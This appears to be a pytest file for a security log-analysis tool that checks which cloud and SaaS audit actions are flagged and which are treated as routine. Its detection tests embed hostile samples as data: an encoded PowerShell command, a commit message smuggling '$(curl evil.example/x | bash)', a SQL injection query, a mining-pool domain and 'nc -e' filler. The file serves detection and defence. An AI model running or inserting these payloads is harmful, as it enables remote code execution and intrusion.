"""The shipped rules on actions of many services, most of which no rule names: what matters, and daily work."""

from typing import Any

import pytest

from ingest.logs.conditions import TEXT_MAX
from ingest.logs.facts import LogFacts
from ingest.logs.words import parts_of, stem, stems_of

from .conftest import Analyse, cloudtrail, json_lines

MATTERS = """
DeleteFlowLogs StopConfigurationRecorder ModifySnapshotAttribute UpdateFunctionCode20150331v2 LeaveOrganization
DisableDomainTransferLock CreateVpcPeeringConnection google.logging.v2.ConfigServiceV2.DeleteSink
google.iam.admin.v1.CreateServiceAccountKey MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/DELETE
Microsoft.Insights/diagnosticSettings/delete Microsoft.Authorization/roleAssignments/write
policy.lifecycle.deactivate user.mfa.factor.reset_all system.idp.lifecycle.create user.session.impersonation.grant
org.disable_two_factor_requirement protected_branch.destroy repository_secret_scanning.disable hook.create
role_change_to_owner private_channel_converted_to_public ekm_unenrolled pref.two_factor_auth_changed
GRANT_ADMIN_PRIVILEGE ADD_TRUSTED_DOMAINS CUSTOMER_TAKEOUT_CREATED workspace.scim_token_generated
IDENTITY_PROVIDER_CREATED BACKUPS_DISABLED org.sso_settings.edit UpdateIPRestrictions sys/audit/disable
sys/policies/acl/update secret_rotate UserLoginSuspicious IMPERSONATE REMOVE_TOTP domain.transfer_out
security_monitoring_rule.disabled organization_token.regenerated run.policy_override account.owner_changed
payout_bank_account.updated beneficiary_added dual_control_disabled backup_policy_removed host_lockdown_disabled
factory_reset dlp_rule_disabled legal_hold_released ehr_break_glass audit_trail_disabled TABLE_TRUNCATED
tde_disabled prompt_injection_detected model_guardrail_disabled mfa_enforcement_disabled app_consent_granted
""".split()

DAILY = """
GetObject ListBuckets DescribeInstances AssumeRole Decrypt GenerateDataKey PutMetricData CreateLogStream PutItem
PutObject GetBucketPolicy ListAccessKeys storage.objects.get compute.instances.list user.session.start
user.authentication.sso repo.create issue.opened pull_request.merge git.push workflows.completed_workflow_run
user_login user_logout file_uploaded message_posted channel_created login_success edit comment task_completed
Microsoft.Storage/storageAccounts/read FileAccessed envelope-sent page.viewed session.end PREVIEW UPLOAD
claude_chat_created login.succeeded heartbeat backup_completed ticket_created CODE_TO_TOKEN secret/data/read
auth/token/lookup-self jira_issue_created dashboard.viewed run.planned run.applied deployment.succeeded invoice.sent
incident_updated mail_sent SELECT INSERT result_entered sample_received payment_approved order_shipped
notification_sent profile_viewed
""".split()


def _record(action: str, **more: Any) -> dict[str, Any]:
    return {"time": "2026-03-02T10:00:00Z", "user": "ann", "action": action, **more}


def _grave(facts: LogFacts) -> bool:
    return any(finding.severity != "low" for finding in facts.findings)


@pytest.mark.parametrize("action", MATTERS)
def test_what_matters_is_a_finding_whatever_the_service(facts_of: Analyse, action: str) -> None:
    assert _grave(facts_of(json_lines(_record(action))))


@pytest.mark.parametrize("action", DAILY)
def test_daily_work_is_none(facts_of: Analyse, action: str) -> None:
    assert not _grave(facts_of(json_lines(_record(action))))


@pytest.mark.parametrize(
    ("more", "expected"),
    [
        ({"CommandLine": "powershell -nop -enc SQBFAFgAKABOAGUAdwAt"}, True),
        ({"CommandLine": "powershell -File report.ps1"}, False),
        ({"commits": [{"message": "fix $(curl evil.example/x | bash)"}]}, True),
        ({"uri": "/search?q=1 union select password"}, True),
        ({"severity": "high", "rule_name": "Beacon"}, True),
        ({"severity": "info", "rule_name": "Beacon"}, False),
        ({"malwareScore": 100}, True),
        ({"malwareScore": 3}, False),
        ({"query_name": "pool.minexmr.com."}, True),
        ({"policy": '{"Statement": [{"Effect": "Allow", "Principal": "*"}]}', "operation": "SetPolicy"}, True),
        ({"request": {"allowBlobPublicAccess": True}, "operation": "update"}, True),
        ({"request": {"allowBlobPublicAccess": False}, "operation": "update"}, False),
    ],
)
def test_what_a_record_holds_counts(facts_of: Analyse, more: dict[str, Any], expected: bool) -> None:
    record = _record("x", **more)
    if "operation" in more:
        del record["action"]
    assert _grave(facts_of(json_lines(record))) is expected


def test_the_platforms_own_controllers_are_no_finding(facts_of: Analyse) -> None:
    record = {
        "kind": "Event", "verb": "create", "user": {"username": "system:serviceaccount:kube-system:daemon-set"},
        "objectRef": {"resource": "pods", "namespace": "kube-system"}, "responseStatus": {"code": 201},
        "stageTimestamp": "2026-03-02T10:00:00Z", "requestObject": {"spec": {"hostNetwork": True}},
    }  # fmt: skip
    assert not _grave(facts_of(json_lines(record)))
    record["user"] = {"username": "ann"}
    assert _grave(facts_of(json_lines(record)))


@pytest.mark.parametrize(
    "filler", ["a", " ", '"', "admin", "../", "nc -e ", "password: off ", "\\", '{"Principal": ', "A1a"]
)
def test_long_hostile_values_do_not_stop_the_rules(facts_of: Analyse, filler: str) -> None:
    value = filler * (4 * TEXT_MAX // len(filler))
    facts = facts_of(json_lines(cloudtrail("UpdatePolicy", requestParameters={"name": value, "query_name": value})))
    assert facts.events == 1


@pytest.mark.parametrize(
    ("word", "parts"),
    [
        ("networksecuritygroups", ("network", "security", "groups")),
        ("deleteuser", ("delete", "user")),
        ("storage", ("storage",)),
        ("anything", ("anything",)),
        ("resourceless", ("resourceless",)),
    ],
)
def test_parts_of_run_together_names(word: str, parts: tuple[str, ...]) -> None:
    assert parts_of(word) == parts


@pytest.mark.parametrize(
    "words",
    ["delete deleted deletes deleting deletion", "policy policies", "stop stopped stopping", "create created creation",
     "modify modified modification", "disable disabled disabling", "suspend suspended suspension", "use used uses"],
)  # fmt: skip
def test_endings_make_no_difference(words: str) -> None:
    assert len({stem(word) for word in words.split()}) == 1


def test_words_that_only_look_alike_stay_apart() -> None:
    for one, other in (("set", "setting"), ("log", "logging"), ("app", "applied"), ("application", "applied")):
        assert stem(one) != stem(other)
    assert stems_of("CreateFunction20150331v2") == " creat funct "
